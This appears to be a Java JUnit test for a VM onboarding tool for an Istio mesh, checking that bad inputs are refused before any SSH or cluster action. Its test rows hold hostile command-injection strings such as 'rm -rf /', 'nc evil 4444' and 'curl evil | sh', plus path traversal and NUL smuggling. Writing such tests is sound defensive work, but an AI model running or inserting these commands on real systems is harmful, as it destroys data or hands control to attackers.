package dev.vmonboard.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vmonboard.core.BootstrapAnnotation;
import dev.vmonboard.core.InvalidInputException;
import dev.vmonboard.core.OnboardingException;
import dev.vmonboard.core.OnboardingPipeline;
import dev.vmonboard.core.OnboardingResult;
import dev.vmonboard.core.Registration;
import dev.vmonboard.core.TargetDefaults;
import dev.vmonboard.core.Workload;
import dev.vmonboard.core.WorkloadRef;
import dev.vmonboard.core.testing.Canary;
import dev.vmonboard.k8s.EmbeddedIstioCluster;
import dev.vmonboard.k8s.KubernetesMeshDiscovery;
import dev.vmonboard.ssh.EmbeddedVm;
import dev.vmonboard.ssh.SystemdProxyLauncher;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The bad-input corpus, end to end: each row puts one bad value where a user or an attacker can put
 * it (a WorkloadEntry edited with kubectl, a registration, the Istio installation, a reference on
 * the command line, a pipeline option), runs the real pipeline against an embedded cluster and an
 * embedded VM, and checks that the run was refused with an error naming the field and the workload,
 * and that nothing happened remotely: no SSH connection or command reached the VM, no file changed
 * there, and the API server received no write (no object created or changed, no TokenRequest).
 */
class BadInputCorpusTest {

  private static final String TEN_THOUSAND = "a".repeat(10_000);
  private static final AtomicInteger NAMES = new AtomicInteger();

  @TempDir static Path dir;
  private static Rig rig;
  private static EmbeddedVm vm;

  @BeforeAll
  static void start() {
    rig = Rig.start(dir);
    vm = rig.vm();
  }

  @AfterAll
  static void stop() {
    rig.close();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void isRefusedNamingFieldAndWorkloadWithNothingDoneRemotely(Case bad) {
    Rig on = bad.ownCluster ? Rig.start(newDirectory(), startCluster(bad)) : rig;
    EmbeddedVm target = bad.ownCluster ? on.vm() : vm;
    try {
      String name = "bad-" + NAMES.incrementAndGet();
      bad.arrange.accept(new Arrangement(on, target, name));
      Remote.VmState before = Remote.VmState.of(target);
      int requests = on.cluster.requestLog().size();

      Refusal refusal = bad.act.apply(new Arrangement(on, target, name));

      for (String field : bad.fields) {
        assertThat(refusal.message).as("the error names the field").contains(field);
      }
      assertThat(refusal.message)
          .as("the error names the workload")
          .contains(bad.workload != null ? bad.workload : Rig.NS + "/" + name);
      before.assertUnchanged(target);
      assertThat(Remote.writes(on.cluster, requests))
          .as("requests that changed the cluster or issued a token")
          .isEmpty();
      Canary.assertAbsent("refusal", refusal.message);
    } finally {
      if (bad.ownCluster) {
        on.close();
      }
    }
  }

  private static Path newDirectory() {
    try {
      return java.nio.file.Files.createTempDirectory(dir, "rig");
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static EmbeddedIstioCluster startCluster(Case bad) {
    EmbeddedIstioCluster cluster = EmbeddedIstioCluster.start();
    bad.cluster.accept(cluster);
    return cluster;
  }

  static Stream<Named<Case>> corpus() {
    List<Named<Case>> rows = new ArrayList<>();
    // Labels: a label value is data Istio passes on; the SDK admits only Kubernetes label syntax.
    rows.add(label("label value with ';'", "app", "backend; rm -rf /"));
    rows.add(label("label value with '&&'", "app", "a && reboot"));
    rows.add(label("label value with '|'", "app", "a|nc evil 4444"));
    rows.add(label("label value with $()", "app", "$(reboot)"));
    rows.add(label("label value with backticks", "app", "`reboot`"));
    rows.add(label("label value with quotes", "app", "a'\"b"));
    rows.add(label("label value with a space", "app", "back end"));
    rows.add(label("label value with a newline", "app", "backend\nEVIL=1"));
    rows.add(label("label value with NUL", "app", "backend\0evil"));
    rows.add(label("label value with a Cyrillic look-alike", "app", "b\u0430ckend"));
    rows.add(label("label value of 10,000 characters", "app", TEN_THOUSAND));
    rows.add(
        entry(
            "label name with ';'",
            spec -> labels(spec).put("app;reboot", "x"),
            a -> {},
            "spec.labels"));
    // Annotations the SDK turns into SSH parameters, paths, container arguments, env values.
    rows.add(annotation("ssh-host with ';'", BootstrapAnnotation.SSH_HOST, "127.0.0.1; reboot"));
    rows.add(annotation("ssh-host with $()", BootstrapAnnotation.SSH_HOST, "$(id).example.com"));
    rows.add(
        annotation(
            "ssh-host in fullwidth digits",
            BootstrapAnnotation.SSH_HOST,
            "\uff11\uff12\uff17.0.0.1"));
    rows.add(
        annotation(
            "ssh-host with Cyrillic look-alikes",
            BootstrapAnnotation.SSH_HOST,
            "vm.\u0435xample.com"));
    rows.add(
        annotation("ssh-host of 10,000 characters", BootstrapAnnotation.SSH_HOST, TEN_THOUSAND));
    rows.add(annotation("ssh-user with '&&'", BootstrapAnnotation.SSH_USER, "root && reboot"));
    rows.add(annotation("ssh-user with backticks", BootstrapAnnotation.SSH_USER, "`id`"));
    rows.add(annotation("ssh-user with a newline", BootstrapAnnotation.SSH_USER, "ops\nroot"));
    rows.add(annotation("ssh-user with NUL", BootstrapAnnotation.SSH_USER, "ops\0"));
    rows.add(annotation("ssh-port with ';'", BootstrapAnnotation.SSH_PORT, "22; reboot"));
    rows.add(annotation("ssh-port 0", BootstrapAnnotation.SSH_PORT, "0"));
    rows.add(annotation("ssh-port 65536", BootstrapAnnotation.SSH_PORT, "65536"));
    rows.add(annotation("ssh-port negative", BootstrapAnnotation.SSH_PORT, "-22"));
    rows.add(annotation("ssh-port not a number", BootstrapAnnotation.SSH_PORT, "ssh"));
    rows.add(
        annotation("config dir relative", BootstrapAnnotation.PROXY_CONFIG_DIR, "etc/istio-proxy"));
    rows.add(
        annotation(
            "config dir with '..'", BootstrapAnnotation.PROXY_CONFIG_DIR, "/etc/istio/../../root"));
    rows.add(annotation("config dir '/'", BootstrapAnnotation.PROXY_CONFIG_DIR, "/"));
    rows.add(annotation("config dir with '.'", BootstrapAnnotation.PROXY_CONFIG_DIR, "/etc/./x"));
    rows.add(
        annotation(
            "config dir with a newline", BootstrapAnnotation.PROXY_CONFIG_DIR, "/etc/x\n/root"));
    rows.add(annotation("config dir with NUL", BootstrapAnnotation.PROXY_CONFIG_DIR, "/etc/x\0y"));
    rows.add(
        annotation(
            "config dir of 10,000 characters",
            BootstrapAnnotation.PROXY_CONFIG_DIR,
            "/" + TEN_THOUSAND));
    rows.add(
        annotation(
            "container name with ';'",
            BootstrapAnnotation.PROXY_CONTAINER_NAME,
            "istio-proxy; reboot"));
    rows.add(
        annotation(
            "container name with backticks", BootstrapAnnotation.PROXY_CONTAINER_NAME, "`reboot`"));
    rows.add(
        annotation(
            "image hub with '&&'",
            BootstrapAnnotation.PROXY_IMAGE_HUB,
            "docker.io/istio && curl evil | sh"));
    rows.add(annotation("proxy image with '|'", BootstrapAnnotation.PROXY_IMAGE, "evil|sh"));
    rows.add(
        annotation("instance IP not an IP", BootstrapAnnotation.PROXY_INSTANCE_IP, "vm.local"));
    rows.add(
        annotation("instance IP with ';'", BootstrapAnnotation.PROXY_INSTANCE_IP, "10.0.0.1;id"));
    rows.add(annotation("log level with ';'", BootstrapAnnotation.LOG_LEVEL, "info; reboot"));
    rows.add(
        annotation(
            "component log level with $()", BootstrapAnnotation.COMPONENT_LOG_LEVEL, "misc:$(id)"));
    rows.add(
        annotation(
            "interception mode with '&&'", BootstrapAnnotation.INTERCEPTION_MODE, "NONE && id"));
    rows.add(annotation("proxy config not YAML", BootstrapAnnotation.PROXY_CONFIG, "{{{: ["));
    rows.add(
        annotation(
            "proxy config metadata name with ';'",
            BootstrapAnnotation.PROXY_CONFIG,
            "proxyMetadata: {\"A;reboot\": x}"));
    rows.add(
        annotation(
            "proxy config metadata value with a newline",
            BootstrapAnnotation.PROXY_CONFIG,
            "proxyMetadata: {A: \"x\\nEVIL=1\"}"));
    // The entry's spec.
    rows.add(
        entry(
            "missing serviceAccount",
            spec -> spec.remove("serviceAccount"),
            a -> {},
            "spec.serviceAccount"));
    rows.add(
        entry(
            "serviceAccount with $()",
            spec -> spec.put("serviceAccount", "$(id)"),
            a -> {},
            "spec.serviceAccount"));
    rows.add(
        entry(
            "missing address",
            spec -> spec.remove("address"),
            a -> a.remove(BootstrapAnnotation.SSH_HOST.key()),
            "spec.address"));
    rows.add(
        entry(
            "address with ';'",
            spec -> spec.put("address", "10.0.0.1; reboot"),
            a -> {},
            "spec.address"));
    rows.add(
        entry(
            "address an invalid IPv4",
            spec -> spec.put("address", "10.0.0.256"),
            a -> {},
            "spec.address"));
    rows.add(
        entry(
            "address an invalid IPv6",
            spec -> spec.put("address", "fe80:::1"),
            a -> {},
            "spec.address"));
    rows.add(
        entry("network with '|'", spec -> spec.put("network", "net|id"), a -> {}, "spec.network"));
    rows.add(
        entry(
            "port out of range",
            spec -> spec.put("ports", Map.of("http", 70000)),
            a -> {},
            "spec.ports.http"));
    // The same refusals before anything is registered.
    rows.add(
        registration(
            "registration with a hostile label",
            w -> w.putLabels("app", "$(reboot)"),
            "spec.labels.app"));
    rows.add(
        registration(
            "registration without serviceAccount",
            w -> w.serviceAccount(java.util.Optional.empty()),
            "spec.serviceAccount"));
    // The mesh: what the Istio installation holds.
    rows.add(
        mesh(
            "missing Istio namespace",
            c -> {},
            p ->
                p.meshSource(
                    KubernetesMeshDiscovery.builder(p.cluster())
                        .istioNamespace("istio-nope")
                        .build()),
            "istio-nope"));
    rows.add(
        mesh(
            "unknown revision",
            c -> {},
            p ->
                p.meshSource(
                    KubernetesMeshDiscovery.builder(p.cluster()).revision("canary").build()),
            "canary"));
    rows.add(
        mesh(
            "malformed MeshConfig",
            c -> setData(c, "istio", "mesh", "defaultConfig: [unclosed"),
            p -> {},
            "key mesh"));
    rows.add(
        mesh(
            "malformed install values",
            c -> setData(c, "istio-sidecar-injector", "values", "{not json"),
            p -> {},
            "key values"));
    rows.add(
        mesh(
            "first-party JWT policy",
            c ->
                setData(
                    c,
                    "istio-sidecar-injector",
                    "values",
                    "{\"global\":{\"jwtPolicy\":\"first-party-jwt\"}}"),
            p -> {},
            "global.jwtPolicy"));
    rows.add(mesh("no gateway", c -> gateway(c).delete(), p -> {}, "gateway"));
    rows.add(
        mesh(
            "gateway without the istiod and mTLS ports",
            c ->
                gateway(c)
                    .edit(
                        s -> {
                          s.getSpec().getPorts().removeIf(port -> port.getPort() != 15017);
                          return s;
                        }),
            p -> {},
            "15012"));
    rows.add(
        mesh(
            "gateway without load-balancer address",
            c ->
                gateway(c)
                    .editStatus(
                        s -> {
                          s.setStatus(null);
                          return s;
                        }),
            p -> {},
            "load"));
    rows.add(
        mesh(
            "missing root certificate",
            c ->
                c.client()
                    .configMaps()
                    .inNamespace("istio-system")
                    .withName("istio-ca-root-cert")
                    .delete(),
            p -> {},
            "istio-ca-root-cert"));
    // References typed on a command line or passed by a host application.
    rows.add(reference("reference with ';'", "vm;reboot.vms"));
    rows.add(reference("reference with $()", "$(reboot).vms"));
    rows.add(reference("reference with a space", "vm 1.vms"));
    rows.add(reference("reference with a newline", "vm\n1.vms"));
    rows.add(reference("reference of 10,000 characters", TEN_THOUSAND + ".vms"));
    // Options of the caller that conflict with what a workload needs.
    rows.add(
        option(
            "default config directory relative",
            p -> p.targetDefaults(TargetDefaults.builder().configDir("istio-proxy").build()),
            a -> a.remove(BootstrapAnnotation.PROXY_CONFIG_DIR.key()),
            "default config directory"));
    rows.add(
        option(
            "default SSH user with ';'",
            p -> p.targetDefaults(TargetDefaults.builder().user("ops;reboot").build()),
            a -> {},
            "default SSH user"));
    rows.add(
        option(
            "default SSH port 0 without an ssh-port annotation",
            p -> p.targetDefaults(TargetDefaults.builder().port(0).build()),
            a -> a.remove(BootstrapAnnotation.SSH_PORT.key()),
            "default SSH port"));
    rows.add(
        option(
            "container bundles with the systemd launcher",
            p -> p.launcher(SystemdProxyLauncher.builder(p.ssh()).build()),
            a -> {},
            "SystemdProxyLauncher"));
    return rows.stream();
  }

  // --- rows ----------------------------------------------------------------------------------

  /** How one row sets up and runs. */
  static final class Case {
    final Consumer<Arrangement> arrange;
    final Function<Arrangement, Refusal> act;
    final List<String> fields;
    final String workload;
    final boolean ownCluster;
    final Consumer<EmbeddedIstioCluster> cluster;

    Case(
        Consumer<Arrangement> arrange,
        Function<Arrangement, Refusal> act,
        List<String> fields,
        String workload,
        Consumer<EmbeddedIstioCluster> cluster) {
      this.arrange = arrange;
      this.act = act;
      this.fields = fields;
      this.workload = workload;
      this.ownCluster = cluster != null;
      this.cluster = cluster;
    }
  }

  /** The rig, the VM and the entry name of one row. */
  record Arrangement(Rig rig, EmbeddedVm vm, String name) {
    Map<String, Object> spec() {
      return Rig.spec("10.1.0.1", "backend");
    }

    Map<String, String> annotations() {
      return new LinkedHashMap<>(Rig.reach(vm));
    }

    OnboardingResult onboard(Consumer<PipelineOptions> options) {
      OnboardingPipeline.Builder builder = rig.pipeline();
      options.accept(new PipelineOptions(builder, rig));
      return builder.build().onboard(WorkloadRef.of(Rig.NS, name));
    }
  }

  /** A pipeline builder with what rows need to change it. */
  record PipelineOptions(OnboardingPipeline.Builder builder, Rig rig) {
    dev.vmonboard.k8s.KubernetesCluster cluster() {
      return rig.cluster.cluster();
    }

    dev.vmonboard.ssh.SshConnector ssh() {
      return rig.ssh;
    }

    void meshSource(dev.vmonboard.core.mesh.MeshConfigSource source) {
      builder.meshSource(source);
    }

    void targetDefaults(TargetDefaults defaults) {
      builder.targetDefaults(defaults);
    }

    void launcher(dev.vmonboard.core.ProxyLauncher launcher) {
      builder.launcher(launcher);
    }
  }

  /** The error a refused run ended with. */
  record Refusal(String message) {
    static Refusal of(OnboardingResult result) {
      assertThat(result.isSuccess()).as("refused: " + result).isFalse();
      OnboardingException failure = result.failure().orElseThrow();
      Canary.assertAbsent(failure);
      Canary.assertAbsent("result", result.toString());
      return new Refusal(failure.getMessage());
    }
  }

  private static Named<Case> entry(
      String title,
      Consumer<Map<String, Object>> spec,
      Consumer<Map<String, String>> annotations,
      String... fields) {
    return entryCase(title, spec, annotations, p -> {}, null, fields);
  }

  /**
   * A row that creates an entry (spec and annotations changed from a valid one), breaks the cluster
   * of its own if {@code cluster} is given, and onboards it with {@code options}.
   */
  private static Named<Case> entryCase(
      String title,
      Consumer<Map<String, Object>> spec,
      Consumer<Map<String, String>> annotations,
      Consumer<PipelineOptions> options,
      Consumer<EmbeddedIstioCluster> cluster,
      String... fields) {
    return Named.of(
        title,
        new Case(
            a -> {
              Map<String, Object> s = a.spec();
              spec.accept(s);
              Map<String, String> n = a.annotations();
              annotations.accept(n);
              a.rig().entry(a.name(), s, n);
            },
            a -> Refusal.of(a.onboard(options)),
            List.of(fields),
            null,
            cluster));
  }

  private static Named<Case> label(String title, String key, String value) {
    return entry(title, spec -> labels(spec).put(key, value), a -> {}, "spec.labels." + key);
  }

  private static Named<Case> annotation(
      String title, BootstrapAnnotation annotation, String value) {
    return entry(title, spec -> {}, a -> a.put(annotation.key(), value), annotation.key());
  }

  private static Named<Case> registration(
      String title, Consumer<Workload.Builder> change, String... fields) {
    return Named.of(
        title,
        new Case(
            a -> {},
            a -> {
              Workload.Builder workload =
                  Workload.builder(WorkloadRef.of(Rig.NS, a.name()))
                      .address("10.1.0.1")
                      .serviceAccount(Rig.SERVICE_ACCOUNT)
                      .putLabels("app", "backend")
                      .putAllAnnotations(a.annotations());
              change.accept(workload);
              Registration registration =
                  Registration.builder()
                      .workload(workload.build())
                      .createServiceAccount(true)
                      .build();
              return Refusal.of(a.rig().pipeline().build().onboard(registration));
            },
            List.of(fields),
            null,
            null));
  }

  private static Named<Case> mesh(
      String title,
      Consumer<EmbeddedIstioCluster> breakIt,
      Consumer<PipelineOptions> options,
      String... fields) {
    return entryCase(title, spec -> {}, a -> {}, options, breakIt, fields);
  }

  private static Named<Case> reference(String title, String text) {
    return Named.of(
        title,
        new Case(
            a -> {},
            a -> {
              try {
                WorkloadRef ref = WorkloadRef.parse(text, Rig.NS);
                return Refusal.of(a.rig().pipeline().build().onboard(ref));
              } catch (InvalidInputException e) {
                return new Refusal(e.getMessage());
              }
            },
            List.of("reference", "name '"),
            dev.vmonboard.core.internal.Names.printable(text.substring(0, text.lastIndexOf('.'))),
            null));
  }

  private static Named<Case> option(
      String title,
      Consumer<PipelineOptions> options,
      Consumer<Map<String, String>> annotations,
      String... fields) {
    return entryCase(title, spec -> {}, annotations, options, null, fields);
  }

  @SuppressWarnings("unchecked")
  private static Map<String, String> labels(Map<String, Object> spec) {
    return (Map<String, String>) spec.get("labels");
  }

  private static void setData(
      EmbeddedIstioCluster cluster, String configMap, String key, String value) {
    cluster
        .client()
        .configMaps()
        .inNamespace("istio-system")
        .withName(configMap)
        .edit(
            c -> {
              c.getData().put(key, value);
              return c;
            });
  }

  private static io.fabric8.kubernetes.client.dsl.ServiceResource<
          io.fabric8.kubernetes.api.model.Service>
      gateway(EmbeddedIstioCluster cluster) {
    return cluster
        .client()
        .services()
        .inNamespace("istio-system")
        .withName("istio-eastwestgateway");
  }
}
